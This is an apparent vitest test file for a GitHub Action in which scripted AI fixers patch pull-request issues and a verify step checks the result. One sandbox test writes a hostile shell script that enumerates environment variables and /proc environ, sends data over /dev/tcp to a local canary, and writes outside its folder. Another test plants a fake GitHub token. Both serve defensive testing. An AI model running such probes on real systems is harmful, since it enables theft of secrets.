import { readFile } from "node:fs/promises";
import { createServer } from "node:net";
import { join } from "node:path";
import { expect, it, vi } from "vitest";
import { openSample, type SampleWorld } from "../../demo/sample-world.ts";
import { edits } from "../../demo/scenario/fixes.ts";
import { scripts } from "../../demo/scenario/scripts.ts";
import type { RunResult } from "../../src/model/result.ts";
import { agentsToolCache } from "../world/agents.ts";
import { listTree } from "../world/git/tree.ts";
import type { Pull } from "../world/github/entity/pull.ts";
import { expectClean } from "../world/github/expect-clean.ts";
import { probeOwnJail } from "../world/jail.ts";
import { replace } from "../world/models/call.ts";
import type { ModelRequest } from "../world/models/request.ts";
import type { Step } from "../world/models/step.ts";
import type { UsesOptions } from "../world/runner/runner.ts";
import { temporaryFolder } from "../world/temporary-folder.ts";
import { action } from "./agents.ts";

// A run of four agents each, some tests two of them.
vi.setConfig({ testTimeout: 120_000 });

/** For what does not depend on how many fixes there are. */
const quick = { "max-fixes": "3", vote: "false" };
const toolCache = await agentsToolCache();
const probe = await probeOwnJail();
const asSample = scripts({ thinkMs: 0 });
const sampleFixer = asSample[2]?.steps as (request: ModelRequest) => Step;

/** The sample with another fixer. */
async function open(fixer: (request: ModelRequest) => Step | Promise<Step> = sampleFixer) {
  const fixing = { vendor: "gemini", steps: fixer } as const;
  return await openSample({ scripts: [...asSample.slice(0, 2), fixing], toolCache });
}

async function use(
  world: SampleWorld,
  inputs: Record<string, string>,
  over: Partial<UsesOptions> = {},
) {
  const event = over.event ?? (await world.github.event("pull_request", "opened", world.pull));
  const all = { ...world.inputs, ...inputs };
  const step = await world.runner.uses({ action, event, inputs: all, ...over });
  expect(step.conclusion, step.log.join("\n")).toBe("success");
  const report = JSON.parse(await readFile(step.outputs.report ?? "", "utf8")) as RunResult;
  const fixOf = (title: RegExp) => {
    const issue = report.issues.find((one) => title.test(one.title));
    return report.fixes.find((fix) => fix.issue === issue?.id);
  };
  return { step, report, fixOf, notices: report.notices.join("\n") };
}

function settled({ models, github }: SampleWorld): void {
  expect(models.problems).toEqual([]);
  expectClean(github);
}

const bodies = (pull: Pull) => pull.threads.map((thread) => thread.comments[0]?.body ?? "");
const coupon = edits.find((edit) => edit.about.test("fractions of a cent"));
const brokenCoupon = "  if (coupon.percent) return BROKEN(subtotal);";
const findsBroken = 'if grep -rn BROKEN src; then echo "the cart is broken"; exit 3; fi';

/** Breaks the coupon's patch; repairs it when it is told, if it `learns`. */
function clumsy(learns: boolean) {
  return (request: ModelRequest): Step => {
    const { text, toolResults } = request;
    if (coupon === undefined) throw new Error("the sample has no coupon issue");
    if (text.includes("own check does not pass")) {
      if (!learns || toolResults.length > 0) return { text: "I do not know better." };
      return { calls: [replace(coupon.file, brokenCoupon, coupon.newText)] };
    }
    if (/^Issue at .*fractions of a cent/m.test(text)) {
      if (toolResults.length > 0) return { text: "Done." };
      return { calls: [replace(coupon.file, coupon.oldText, brokenCoupon)] };
    }
    return sampleFixer(request);
  };
}

it("gives a patch that fails verify back to the fixer once, and commits what passes then", async () => {
  await using world = await open(clumsy(true));
  const { github, pull, repository, models } = world;
  const { report, fixOf, step } = await use(world, { fix: "commit", verify: findsBroken });
  // One request for each commit, and one document with every reply and resolve.
  expect(github.requests("graphql/createCommitOnBranch")).toHaveLength(7);
  expect(github.requests("graphql/addPullRequestReviewThreadReply")).toHaveLength(1);
  expect(pull.threads.every((thread) => thread.resolved)).toBe(true);
  expect(report.fixes.map((fix) => fix.status)).toEqual(Array(7).fill("fixed"));
  expect(report.fixes.map((fix) => fix.verify)).toEqual(Array(7).fill("passed"));
  expect(fixOf(/fractions/)?.patch).not.toContain("BROKEN");
  expect(await repository.read(pull.headSha, "src/orders/cart.ts")).toContain("Math.round(");
  const told = models.requests.filter((one) => one.text.includes("own check does not pass"));
  expect(told[0]?.text).toContain("the cart is broken");
  expect(step.outputs["fixed-count"]).toBe("7");
  const judged = /\(✅ verified · confirmed by `(?:claude|codex)`/;
  for (const text of [pull.comments[0]?.body ?? "", step.summary]) {
    expect(text.split(judged)).toHaveLength(8);
  }
  const commented = bodies(pull).filter((body) =>
    body.includes("Patch ✅ verified · confirmed by"),
  );
  expect(commented.length).toBeGreaterThan(4);
  expect(report.notices.join()).toContain("starts no workflows");
  settled(world);
});

it("drops a patch that goes on failing verify, with the reason, and keeps the others", async () => {
  await using world = await open(clumsy(false));
  const { pull, repository } = world;
  const { report, fixOf } = await use(world, { fix: "commit", verify: findsBroken });
  const dropped = fixOf(/fractions/);
  expect(dropped).toMatchObject({ status: "rejected", verify: "failed", patch: null });
  expect(dropped?.reason).toContain("exit code 3: the cart is broken");
  expect(report.fixes.filter((fix) => fix.commit !== null)).toHaveLength(6);
  const cart = await repository.read(pull.headSha, "src/orders/cart.ts");
  expect(cart).not.toContain("BROKEN");
  expect(cart).toContain("(1 - coupon.percent / 100)");
  settled(world);
});

it("says that verify cannot judge where it fails on the untouched head, and commits nothing", async () => {
  await using world = await open();
  const { github, pull } = world;
  const verify = "echo no tests here; exit 4";
  const { report, notices } = await use(world, { ...quick, fix: "commit", verify });
  expect(notices).toContain("verify cannot judge them");
  expect(notices).toContain("exit code 4: no tests here");
  expect(notices).toContain("suggested, not committed");
  expect(report.fixes.every((fix) => fix.verify === "cannot-judge")).toBe(true);
  expect(github.requests("graphql/createCommitOnBranch")).toEqual([]);
  expect(bodies(pull).join("\n")).toContain("```suggestion");
  expect(pull.comments[0]?.body).toContain("cannot judge");
  expect(bodies(pull).join("\n")).toContain("Patch unverified: ");
  settled(world);
});

it("verifies the fixes of all lanes together, and drops the lowest rank first where only that fails", async () => {
  await using world = await open();
  const { pull, repository } = world;
  // Each of the two passes alone; the lanes do not see each other.
  const both =
    "grep -q 'Math.round' src/orders/cart.ts && grep -q 'await assert' test/cart.test.ts";
  const inputs = { fix: "commit", "fix-lanes": "8", verify: `if ${both}; then exit 5; fi` };
  const { report, fixOf } = await use(world, inputs);
  const dropped = report.fixes.filter((fix) => fix.status === "rejected");
  expect(dropped).toEqual([report.fixes.at(-1)]);
  expect(dropped[0]).toMatchObject({ verify: "failed" });
  expect(dropped[0]?.reason).toContain("together with the fixes before it");
  const kept = [fixOf(/fractions/), fixOf(/rejects/)].map((fix) => fix?.status);
  expect(kept.toSorted()).toEqual(["fixed", "rejected"]);
  const committed = await Promise.all([
    repository.read(pull.headSha, "src/orders/cart.ts"),
    repository.read(pull.headSha, "test/cart.test.ts"),
  ]);
  expect(committed.filter((text) => /Math\.round|await assert/.test(text ?? ""))).toHaveLength(1);
  settled(world);
});

it("lets two threads fix side by side, and commits in rank order", async () => {
  const lanes = new Set<string>();
  let open2: () => void = () => undefined;
  const both = new Promise<void>((resolve) => {
    open2 = resolve;
  });
  await using world = await open(async (request) => {
    // No thread gets an answer before a second one has asked.
    lanes.add(request.conversation);
    if (lanes.size === 2) open2();
    await both;
    return sampleFixer(request);
  });
  const { github, pull, repository } = world;
  const { report } = await use(world, { fix: "commit", "fix-lanes": "2" });
  expect(lanes.size).toBe(2);
  expect(report.fixes.map((fix) => fix.status)).toEqual(Array(7).fill("fixed"));
  const headlines = github
    .requests("graphql/createCommitOnBranch")
    .map(({ body }) => /"headline":"([^"]+)/.exec(JSON.stringify(body))?.[1]);
  const titles = report.issues.filter((one) => report.fixes.some((fix) => fix.issue === one.id));
  expect(headlines).toEqual(titles.map(({ title }) => expect.stringContaining(title.slice(0, 30))));
  expect(await repository.read(pull.headSha, "src/orders/inventory.ts")).toContain(
    "stockForUpdate",
  );
  expect(await repository.read(pull.headSha, "src/orders/cart.ts")).toContain("Math.round(");
  settled(world);
});

it("pushes the fixes of an executable file with git, signs the others, and undoes what it pushed", async () => {
  await using world = await open();
  const { github, pull, repository } = world;
  const cart = "src/orders/cart.ts";
  const content = (await repository.read("coupons", cart)) ?? "";
  await repository.commit("coupons", {
    files: { [cart]: { content, mode: "100755" } },
    author: "alice",
  });
  const { report, fixOf, notices } = await use(world, { fix: "commit" });
  expect(report.fixes.map((fix) => fix.status)).toEqual(Array(7).fill("fixed"));
  const pushed = fixOf(/fractions/);
  expect(notices).toContain(`${pushed?.issue} is not signed`);
  const signed = github.requests("graphql/createCommitOnBranch").length;
  expect(signed).toBeGreaterThan(0);
  expect(signed).toBeLessThan(7);
  const modeOf = async (path: string) => {
    const entries = await listTree(repository.gitDirectory, pull.headSha, true);
    return entries.find((entry) => entry.path === path)?.mode;
  };
  expect(await modeOf(cart)).toBe("100755");
  expect(await repository.read(pull.headSha, cart)).toContain("Math.round(");
  expect(await repository.read(pull.headSha, "src/orders/inventory.ts")).toContain("ForUpdate");
  const fixed = report.fixes.map((fix) => fix.commit);
  const byPush = report.fixes
    .filter(({ issue }) => notices.includes(`issue ${issue} is not signed`))
    .map(({ commit }) => commit?.slice(0, 8));
  for (let at = 0; at < 7; at += 1) {
    const comment = github.comment(pull, { author: "alice", body: "/crosscheck undo" });
    const event = await github.event("issue_comment", "created", comment);
    const inputs = { ...world.inputs };
    await world.runner.uses({ action, event, inputs });
    expect(comment.reactions.map((one) => one.content)).toEqual(["eyes", "rocket"]);
    const answer = pull.comments.at(-1)?.body ?? "";
    expect(answer).toContain("required checks will not run on it");
    expect(answer.includes("is not signed")).toBe(
      byPush.includes(/Undid `(\w+)`/.exec(answer)?.[1]),
    );
  }
  expect(await repository.read(pull.headSha, cart)).toBe(content);
  expect(await modeOf(cart)).toBe("100755");
  expect(fixed).not.toContain(pull.headSha);
  settled(world);
});

it.skipIf(probe.status !== "works")(
  "keeps the pull request's code in a jail while verify executes it",
  async () => {
    await using outside = await temporaryFolder("outside");
    let connections = 0;
    const canary = createServer((socket) => {
      connections += 1;
      socket.end();
    });
    await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
    const address = canary.address();
    const port = typeof address === "object" ? address?.port : 0;
    await using world = await open();
    const { repository, runner, models } = world;
    const written = join(outside.path, "written");
    const attack = [
      // Names only: what a failure prints must not hold this machine's values.
      "echo ENVIRONMENT; (env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n') | cut -d= -f1",
      `echo FILES; ls ${runner.temp} ${outside.path} ${action} 2>&1 | head -5`,
      `echo NETWORK; (echo leak > /dev/tcp/127.0.0.1/${port}) 2>&1 | tail -1`,
      `echo WRITE; (echo owned > ${written}) 2>&1; echo own > "$HOME/x" && echo "wrote home"`,
      "mkdir -p locked/in && chmod 000 locked",
      // Silent on the untouched head, so that the patch's output goes to the fixer, where the test can read it.
      "if grep -q 'percent / 100);' src/orders/cart.ts; then exit 0; else exit 7; fi",
    ];
    await repository.commit("coupons", {
      files: { "test/run.sh": `${attack.join("\n")}\n` },
      author: "alice",
    });
    const inputs = { fix: "commit", verify: "bash test/run.sh", isolation: "required" };
    const { fixOf, step } = await use(world, inputs);
    expect(fixOf(/fractions/)).toMatchObject({ status: "rejected", verify: "failed" });
    const [told = ""] = models.requests
      .filter((one) => one.vendor === "gemini" && one.text.includes("own check does not pass"))
      .map((one) => one.text);
    expect(told).toContain("ENVIRONMENT");
    expect(told).toContain("wrote home");
    expect(told).not.toContain("crosscheck-report");
    const names = (told.split("ENVIRONMENT\n")[1]?.split("\nFILES")[0] ?? "").split("\n");
    const ofShell = ["PWD", "OLDPWD", "SHLVL", "_"];
    const ours = ["CROSSCHECK_RUN", "CROSSCHECK_PROCESS"];
    const allowed = ["HOME", "PATH", "TMPDIR", ...ofShell, ...ours, ""];
    expect(names).toEqual(expect.arrayContaining(["HOME", "PATH", "TMPDIR"]));
    expect(names.filter((name) => !allowed.includes(name))).toEqual([]);
    expect(told).toMatch(/NETWORK\n.*(refused|unreachable)/i);
    await expect(readFile(written)).rejects.toThrow();
    expect(connections).toBe(0);
    expect(step.leaks).toEqual([]);
    settled(world);
    await new Promise((resolve) => canary.close(resolve));
  },
);

it("opens one pull request with the fixes, and brings it up to date on the next run", async () => {
  await using world = await open();
  const { github, pull, repository } = world;
  repository.settings.actionsMayApprove = true;
  const reviewed = pull.headSha;
  const first = await use(world, { fix: "pull-request" });
  expect(pull.headSha).toBe(reviewed);
  const proposals = () => [...repository.pulls.values()].filter((one) => one !== pull);
  const [proposal, ...more] = proposals();
  expect(more).toEqual([]);
  expect(proposal).toMatchObject({
    headRef: `crosscheck/fixes-${pull.number}`,
    baseRef: "coupons",
    state: "open",
  });
  expect(proposal?.body?.match(/^\| `/gm)).toHaveLength(7);
  const tip = proposal?.headSha ?? "";
  expect(await repository.read(tip, "src/orders/cart.ts")).toContain("Math.round(");
  expect(await repository.head(`crosscheck/fixes-${pull.number}-next`)).toBeUndefined();
  expect(first.notices).toContain(`proposed in pull request ${proposal?.number}`);
  expect(first.notices).toContain("starts no workflows");
  const replies = () => pull.threads.map((thread) => thread.comments.length);
  const answers = pull.threads.map((thread) => thread.comments[1]?.body ?? "");
  for (const answer of answers) expect(answer).toContain(`proposed in #${proposal?.number}`);
  expect(pull.threads.every((thread) => !thread.resolved)).toBe(true);

  const before = replies();
  await repository.commit("coupons", {
    files: { "README.md": "# Shop\n" },
    author: "alice",
  });
  const event = await github.event("workflow_dispatch", null, repository);
  const dispatch = { "pull-request": String(pull.number), fix: "pull-request" };
  await use(world, dispatch, { event });
  expect(proposals()).toHaveLength(1);
  expect(proposal?.state).toBe("open");
  // The issues that are still open are fixed anew, on top of the new head.
  expect(await repository.read(proposal?.headSha ?? "", "README.md")).toBe("# Shop\n");
  expect(await repository.read(proposal?.headSha ?? "", "src/orders/cart.ts")).toContain("round(");
  expect(proposal?.body?.match(/^\| `/gm)).toHaveLength(7);
  expect(replies()).toEqual(before);
  settled(world);
});

it("closes the pull request with the fixes when no patch is left, and opens a new one with the next", async () => {
  let lazy = false;
  await using world = await open((request) =>
    lazy ? { text: "I would leave it." } : sampleFixer(request),
  );
  const { github, pull, repository } = world;
  repository.settings.actionsMayApprove = true;
  const review = async (lazily: boolean) => {
    lazy = lazily;
    await repository.commit("coupons", {
      files: { "README.md": `# Shop ${repository.pulls.size} ${lazily}\n` },
      author: "alice",
    });
    const event = await github.event("workflow_dispatch", null, repository);
    const inputs = { ...quick, "pull-request": String(pull.number), fix: "pull-request" };
    return await use(world, inputs, { event });
  };
  await review(false);
  const closed = await review(true);
  const proposals = () => [...repository.pulls.values()].filter((one) => one !== pull);
  const [first] = proposals();
  expect(first).toMatchObject({ state: "closed" });
  expect(first?.comments[0]?.body).toContain(`no fix for #${pull.number} is left`);
  expect(closed.notices).toMatch(new RegExp(`\\b${first?.number} .*closed`));
  await review(false);
  expect(proposals().map(({ state }) => state)).toEqual(["closed", "open"]);
  settled(world);
});

it("says so where GITHUB_TOKEN may open no pull request, and leaves the fixes on their branch", async () => {
  await using world = await open();
  const { pull, repository } = world;
  const { notices } = await use(world, { ...quick, fix: "pull-request" });
  expect(repository.pulls.size).toBe(1);
  expect(notices).toContain("create pull requests");
  expect(await repository.head(`crosscheck/fixes-${pull.number}`)).toBeDefined();
  expect(bodies(pull).join("\n")).toContain("```diff");
  settled(world);
});

it("leaves a branch alone that somebody else has committed to", async () => {
  await using world = await open();
  const { pull, repository } = world;
  const branch = `crosscheck/fixes-${pull.number}`;
  await repository.commit(branch, { files: { "notes.txt": "mine\n" }, author: "alice" });
  const tip = await repository.head(branch);
  const { notices } = await use(world, { ...quick, fix: "pull-request" });
  expect(await repository.head(branch)).toBe(tip);
  expect(notices).toContain("commits of somebody else");
  settled(world);
});

it.each(["commit", "pull-request"])(
  "falls back to suggestions before it fixes where the token may not push (fix: %s)",
  async (fix) => {
    await using world = await open();
    const { github, pull, models } = world;
    const permissions = { contents: "read", "pull-requests": "write" } as const;
    const { report, notices } = await use(world, { ...quick, fix }, { permissions });
    expect(notices).toMatch(/not committed: .*token.* acme\/shop/);
    expect(pull.comments[0]?.body).toContain("suggested, not committed");
    expect(bodies(pull).join("\n")).toContain("```suggestion");
    // Each patch applies to the head alone: the fixer was told that its earlier edits are gone.
    const prompts = models.requests.filter((one) => one.vendor === "gemini").map((one) => one.text);
    expect(prompts.some((text) => text.includes("was reset to the reviewed state"))).toBe(true);
    expect(report.fixes.every((one) => one.commit === null)).toBe(true);
    expect(github.requests("graphql/createCommitOnBranch")).toEqual([]);
    expect(github.requests("git/create-ref")).toEqual([]);
    settled(world);
  },
);

/** A pull request from a fork whose owner may not write to the repository. */
async function fromFork({ github, repository }: SampleWorld) {
  const fork = await github.fork(repository, "bob");
  const pull = await github.openPull(repository, { head: "coupons", from: fork, author: "bob" });
  const event = await github.event("workflow_dispatch", null, repository);
  return { pull, event, inputs: { "pull-request": String(pull.number) } };
}

it("falls back to suggestions on a fork, and says why", async () => {
  await using world = await open();
  const { pull, event, inputs } = await fromFork(world);
  const { notices } = await use(world, { ...quick, ...inputs, fix: "commit" }, { event });
  expect(notices).toContain("nobody but its author");
  expect(bodies(pull).join("\n")).toContain("```suggestion");
  expect(world.github.requests("graphql/createCommitOnBranch")).toEqual([]);
  settled(world);
});

it("executes nothing of a stranger's where there is no jail, and what a writer's where there is none", async () => {
  await using ran = await temporaryFolder("ran");
  const verify = `echo ran >> ${join(ran.path, "log")}`;
  await using world = await open();
  const { pull, event, inputs } = await fromFork(world);
  const without = { ...quick, verify, isolation: "off" };
  const foreign = await use(world, { ...inputs, ...without, fix: "suggest" }, { event });
  expect(foreign.notices).toContain("the change's author has no write access");
  expect(foreign.report.fixes.every((fix) => fix.verify === "not-allowed")).toBe(true);
  expect(bodies(pull).join("\n")).toContain("```suggestion");
  await expect(readFile(join(ran.path, "log"))).rejects.toThrow();

  const own = await use(world, { ...without, fix: "commit" });
  expect(own.report.fixes.every((fix) => fix.verify === "passed")).toBe(true);
  expect(await readFile(join(ran.path, "log"), "utf8")).toContain("ran");
  settled(world);
});

it("drops patches outside the allowed paths, and those that bring a secret", async () => {
  const key = ["ghp", "0123456789abcdefghijABCDEFGHIJ"].join("_");
  await using world = await open((request) => {
    if (coupon === undefined) throw new Error("the sample has no coupon issue");
    if (!/^Issue at .*fractions of a cent/m.test(request.text)) return sampleFixer(request);
    if (request.toolResults.length > 0) return { text: "Done." };
    return { calls: [replace(coupon.file, coupon.oldText, `  const key = "${key}";`)] };
  });
  const { fixOf, report, step } = await use(world, { fix: "suggest", "fix-paths": "src/" });
  expect(fixOf(/fractions/)?.reason).toBe("it adds what looks like a secret");
  expect(fixOf(/rejects/)?.reason).toContain("is not among the allowed paths");
  expect(report.fixes.filter((fix) => fix.status === "fixed")).toHaveLength(5);
  expect(step.log.join("\n")).not.toContain(key);
  settled(world);
});

it("answers a fix command that cannot commit with the reason and the patches", async () => {
  await using world = await open();
  const { github, pull } = world;
  await use(world, { fix: "off" });
  const comment = github.comment(pull, { author: "alice", body: "/crosscheck fix high" });
  const event = await github.event("issue_comment", "created", comment);
  const permissions = { contents: "read", "pull-requests": "write" } as const;
  await use(world, {}, { event, permissions });
  const answer = pull.comments.at(-1)?.body ?? "";
  expect(answer).toMatch(/not committed: .*token/);
  expect(answer).toContain("```diff");
  expect(answer).toContain("like $1");
  expect(comment.reactions.map((one) => one.content)).toEqual(["eyes", "confused"]);
  settled(world);
});
